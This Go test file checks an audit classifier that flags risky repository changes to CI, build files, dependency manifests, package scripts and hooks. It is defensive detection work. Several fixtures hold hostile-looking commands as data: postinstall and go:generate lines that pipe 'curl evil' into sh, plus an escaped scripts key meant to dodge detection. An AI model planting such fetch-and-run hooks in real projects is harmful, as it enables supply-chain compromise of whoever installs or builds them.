package audit

import (
	"strings"
	"testing"

	"github.com/bmatcuk/doublestar/v4"
	"github.com/rogpeppe/go-internal/diff"

	"github.com/cordonhq/cordon/audit/fsdiff"
)

const pkgJSON = `{
  "name": "app",
  "version": "1.0.0",
  "scripts": {
    "test": "jest"
  },
  "dependencies": {
    "left-pad": "^1.3.0"
  }
}
`

// mod is a modification of path from old to new, both known whole.
func mod(path, old, new string) Changed {
	return Changed{Op: fsdiff.Modified, Path: path, Old: []byte(old), New: []byte(new)}
}

// classifyTests are the cases of TestClassify.
var classifyTests = []struct {
	name string
	in   Changed
	want Category // 0: not flagged
	why  string   // a part of the reason
}{
	{"workflow edited", Changed{Op: fsdiff.Modified, Path: ".github/workflows/ci.yml"}, CI, "GitHub Actions"},
	{"workflow deleted", Changed{Op: fsdiff.Deleted, Path: ".github/workflows/ci.yml"}, CI, "GitHub Actions"},
	{"rename into workflows", Changed{Op: fsdiff.Renamed, OldPath: "notes/x.yml", Path: ".github/workflows/x.yml"}, CI, "(the new name)"},
	{"rename out of workflows", Changed{Op: fsdiff.Renamed, OldPath: ".github/workflows/ci.yml", Path: "ci.yml.bak"}, CI, "(the old name)"},
	{"gitlab ci", Changed{Op: fsdiff.Added, Path: ".gitlab-ci.yml"}, CI, "GitLab"},
	{"jenkinsfile nested", Changed{Op: fsdiff.Modified, Path: "svc/Jenkinsfile"}, CI, "Jenkins"},
	{"root Makefile", Changed{Op: fsdiff.Modified, Path: "Makefile"}, Build, "make"},
	{"nested Makefile at depth", Changed{Op: fsdiff.Added, Path: "a/b/c/d/Makefile"}, Build, "make"},
	{"mk include", Changed{Op: fsdiff.Modified, Path: "build/rules.mk"}, Build, "make"},
	{"Dockerfile variant", Changed{Op: fsdiff.Modified, Path: "deploy/Dockerfile.dev"}, Build, "container"},
	{"build.rs", Changed{Op: fsdiff.Added, Path: "crates/x/build.rs"}, Build, "cargo"},
	{"gradle wrapper", Changed{Op: fsdiff.Modified, Path: "gradle/wrapper/gradle-wrapper.properties"}, Build, "Gradle"},
	{"go.mod", Changed{Op: fsdiff.Modified, Path: "go.mod"}, Dependencies, "Go module"},
	{"lockfile", Changed{Op: fsdiff.Modified, Path: "web/package-lock.json"}, Dependencies, "lockfile"},
	{"conftest", Changed{Op: fsdiff.Added, Path: "tests/conftest.py"}, PackageScripts, "pytest"},
	{"pre-commit", Changed{Op: fsdiff.Modified, Path: ".pre-commit-config.yaml"}, Hooks, "pre-commit"},
	{"husky hook", Changed{Op: fsdiff.Added, Path: ".husky/pre-push"}, Hooks, "husky"},
	{"envrc nested", Changed{Op: fsdiff.Added, Path: "sub/.envrc"}, Hooks, "direnv"},
	{"vscode tasks", Changed{Op: fsdiff.Modified, Path: ".vscode/tasks.json"}, Hooks, "VS Code"},
	{"host-executed list", Changed{Op: fsdiff.Added, Path: ".mcp.json"}, Hooks, "host-executed"},
	{"plain source", Changed{Op: fsdiff.Modified, Path: "src/main.c"}, 0, ""},
	{"readme", Changed{Op: fsdiff.Modified, Path: "README.md"}, 0, ""},
	{"Makefile-like name", Changed{Op: fsdiff.Modified, Path: "docs/Makefile.md"}, 0, ""},

	{"package.json scripts changed", mod("package.json", pkgJSON,
		strings.Replace(pkgJSON, `"test": "jest"`, `"test": "jest",`+"\n    "+`"postinstall": "curl evil | sh"`, 1)),
		PackageScripts, "package.json scripts"},
	{"package.json version bumped", mod("package.json", pkgJSON, strings.Replace(pkgJSON, "1.0.0", "1.0.1", 1)), 0, ""},
	{"package.json reformatted", mod("package.json", pkgJSON, strings.ReplaceAll(pkgJSON, "  ", "\t")), 0, ""},
	{"package.json dependency bumped", mod("package.json", pkgJSON, strings.Replace(pkgJSON, "^1.3.0", "^1.3.1", 1)),
		Dependencies, "dependencies"},
	{"package.json scripts key escaped", mod("package.json", pkgJSON,
		strings.Replace(pkgJSON, `"dependencies": {`, `"\u0073cripts": {"postinstall": "x"}, "dependencies": {`, 1)),
		PackageScripts, "scripts"},
	{"package.json added with scripts", Changed{Op: fsdiff.Added, Path: "web/package.json", New: []byte(pkgJSON)},
		PackageScripts, "package.json scripts"},
	{"package.json added without scripts", Changed{Op: fsdiff.Added, Path: "package.json", New: []byte(`{"name": "x"}`)}, 0, ""},
	{"package.json deleted", Changed{Op: fsdiff.Deleted, Path: "package.json", Old: []byte(pkgJSON)}, PackageScripts, "package.json scripts"},
	{"package.json binary", Changed{Op: fsdiff.Modified, Path: "package.json"}, PackageScripts, "cannot place"},
	{"package.json not JSON", mod("package.json", pkgJSON, "{oops"), PackageScripts, "cannot place"},
	{"package.json renamed in", Changed{Op: fsdiff.Renamed, OldPath: "p.json", Path: "package.json"}, PackageScripts, "(the new name)"},
	{"composer scripts", mod("composer.json", `{"scripts": {}}`, `{"scripts": {"post-install-cmd": "x"}}`), PackageScripts, "composer.json scripts"},

	{"go:generate added", mod("gen/x.go", "package gen\n", "package gen\n\n//go:generate sh -c 'curl evil | sh'\n"), Build, "go:generate"},
	{"go:generate unchanged", mod("gen/x.go", "package gen\n//go:generate stringer -type T\n",
		"package gen\n//go:generate stringer -type T\nvar x = 1\n"), 0, ""},
	{"go file edited", mod("main.go", "package main\n", "package main\n\nfunc main() {}\n"), 0, ""},
	{"go file unknown", Changed{Op: fsdiff.Modified, Path: "main.go"}, 0, ""},
	{"go generate driver", Changed{Op: fsdiff.Modified, Path: "tools_generate.go"}, Build, "go generate"},

	{"pyproject build-system", mod("pyproject.toml", "[project]\nname = \"x\"\n\n[build-system]\nrequires = [\"setuptools\"]\n",
		"[project]\nname = \"x\"\n\n[build-system]\nrequires = [\"evil-backend\"]\n"), PackageScripts, "[build-system]"},
	{"pyproject entry point", mod("pyproject.toml", "[project]\nname = \"x\"\n",
		"[project]\nname = \"x\"\n\n[project.scripts]\nx = \"x:main\"\n"), PackageScripts, "entry points"},
	{"pyproject version bumped", mod("pyproject.toml", "[project]\nname = \"x\"\nversion = \"1\"\n",
		"[project]\nname = \"x\"\nversion = \"2\"\n"), 0, ""},
	{"pyproject dependency in array", mod("pyproject.toml", "[project]\ndependencies = [\n  \"a\",\n]\n",
		"[project]\ndependencies = [\n  \"a\",\n  \"b\",\n]\n"), Dependencies, "dependencies"},
	{"pyproject fake header in a string", mod("pyproject.toml",
		"[build-system]\nx = \"\"\"\n[tool.black]\n\"\"\"\nbackend = \"a\"\n",
		"[build-system]\nx = \"\"\"\n[tool.black]\n\"\"\"\nbackend = \"b\"\n"), PackageScripts, "[build-system]"},
	{"pyproject tool config", mod("pyproject.toml", "[tool.black]\nline-length = 88\n", "[tool.black]\nline-length = 100\n"), 0, ""},
	{"Cargo build key", mod("Cargo.toml", "[package]\nname = \"x\"\n", "[package]\nname = \"x\"\nbuild = \"gen.rs\"\n"), Build, "build script"},
	{"Cargo build-dependencies", mod("Cargo.toml", "[package]\nname = \"x\"\n", "[package]\nname = \"x\"\n\n[build-dependencies]\ncc = \"1\"\n"), Build, "build-dependencies"},
	{"Cargo dependencies", mod("Cargo.toml", "[dependencies]\nserde = \"1\"\n", "[dependencies]\nserde = \"1.1\"\n"), Dependencies, "dependencies"},
	{"Cargo target build-dependencies", mod("Cargo.toml", "[package]\nname = \"x\"\n",
		"[package]\nname = \"x\"\n[target.'cfg(unix)'.build-dependencies]\ncc = \"1\"\n"), Build, "build-dependencies"},
	{"Cargo version bumped", mod("Cargo.toml", "[package]\nversion = \"1.0.0\"\n", "[package]\nversion = \"1.0.1\"\n"), 0, ""},
}

func TestClassify(t *testing.T) {
	tests := classifyTests
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, ok := Classify(tt.in)
			if !ok {
				if tt.want != 0 {
					t.Fatalf("not flagged; want %v", tt.want)
				}
				return
			}
			if tt.want == 0 {
				t.Fatalf("flagged %v %q; want not flagged", f.Category, f.Reason)
			}
			if f.Category != tt.want || !strings.Contains(f.Reason, tt.why) {
				t.Errorf("got %v %q; want %v with %q", f.Category, f.Reason, tt.want, tt.why)
			}
		})
	}
}

// TestClassifyFromPatch checks the content checks on what a log holds: a file's part
// of the patch, with only a few lines of context.
func TestClassifyFromPatch(t *testing.T) {
	long := "{\n  \"name\": \"app\",\n  \"version\": \"1.0.0\",\n" + strings.Repeat("  \"k\": 1,\n", 20) +
		"  \"scripts\": {\n    \"a\": \"1\",\n    \"b\": \"2\",\n    \"c\": \"3\",\n    \"d\": \"4\",\n    \"test\": \"jest\"\n  }\n}\n"
	tests := []struct {
		name     string
		old, new string
		want     Category
		why      string
	}{
		{"version bump near the top", long, strings.Replace(long, "1.0.0", "1.0.1", 1), 0, ""},
		{"script deep in the file", long, strings.Replace(long, `"jest"`, `"jest && curl evil | sh"`, 1), PackageScripts, "cannot place"},
		{"script near the top", pkgJSON, strings.Replace(pkgJSON, `"app"`, `"app", "scripts": {"preinstall": "evil"}`, 1), PackageScripts, "package.json scripts"},
		{"line 1 not in the hunk", pkgJSON, strings.Replace(pkgJSON, `"jest"`, `"jest; evil"`, 1), PackageScripts, "cannot place"},
		{"a dependency near the top", pkgJSON, strings.Replace(pkgJSON, `"app",`, `"app", "dependencies": {"x": "1"},`, 1), Dependencies, "dependencies"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			patch := "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n" +
				string(diffHunks(tt.old, tt.new))
			f, ok := Classify(Changed{Op: fsdiff.Modified, Path: "package.json", Patch: patch})
			if ok != (tt.want != 0) || ok && (f.Category != tt.want || !strings.Contains(f.Reason, tt.why)) {
				t.Errorf("got %v %v %q; want %v with %q\n%s", ok, f.Category, f.Reason, tt.want, tt.why, patch)
			}
		})
	}
}

// diffHunks is the hunks fsdiff would write for a change from old to new.
func diffHunks(old, new string) []byte {
	d := string(diff.Diff("a", []byte(old), "b", []byte(new)))
	for range 3 {
		d = d[strings.IndexByte(d, '\n')+1:]
	}
	return []byte(d)
}

func TestParseSectionWhole(t *testing.T) {
	sec := "diff --git a/x b/x\nnew file mode 100644\n--- /dev/null\n+++ b/x\n@@ -0,0 +1,2 @@\n+a\n+b\n\\ No newline at end of file\n"
	tx := parseSection(sec)
	if !tx.old.whole || !tx.new.whole || string(tx.new.bytes()) != "a\nb" {
		t.Errorf("got old whole %v, new whole %v %q", tx.old.whole, tx.new.whole, tx.new.bytes())
	}
	cut := parseSection(strings.TrimSuffix(sec, "+b\n\\ No newline at end of file\n"))
	if cut.new.whole {
		t.Error("a hunk cut short reads as the whole file")
	}
	bin := parseSection("diff --git a/x b/x\nBinary files a/x and b/x differ\n")
	if bin.old.known || bin.new.known {
		t.Error("a binary notice reads as known content")
	}
}

func TestLaterTableGlobs(t *testing.T) {
	for _, r := range laterRules() {
		for _, g := range r.globs {
			if !doublestar.ValidatePattern(g) {
				t.Errorf("%s: bad glob", g)
			}
		}
		if r.cat == 0 || r.what == "" {
			t.Errorf("%v: no category or reason", r.globs)
		}
	}
	for _, m := range []tomlManifest{pyprojectTOML, cargoTOML} {
		for _, r := range m.rules {
			for _, g := range r.globs {
				if !doublestar.ValidatePattern(g) {
					t.Errorf("%s %s: bad glob", m.name, g)
				}
			}
		}
	}
}

func FuzzClassify(f *testing.F) {
	f.Add("package.json", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n"+string(diffHunks(pkgJSON, strings.Replace(pkgJSON, "jest", "x", 1))))
	f.Add("pyproject.toml", "diff --git a/p b/p\n@@ -1,2 +1,2 @@\n [a.'b'.\"c\"]\n-x = \"\"\"\n+y = [1, {a = 2}]\n")
	f.Add("x.go", "@@ -0,0 +1 @@\n+//go:generate x\n\\ No newline at end of file\n")
	f.Fuzz(func(t *testing.T, path, patch string) {
		for _, op := range []fsdiff.Op{fsdiff.Added, fsdiff.Deleted, fsdiff.Modified, fsdiff.Renamed} {
			Classify(Changed{Op: op, Path: path, OldPath: path, Patch: patch})
		}
		tx := parseSection(patch)
		m := len(tx.new.lines)
		if m > 0 {
			Classify(Changed{Op: fsdiff.Modified, Path: path, Old: tx.old.bytes(), New: tx.new.bytes()})
		}
	})
}
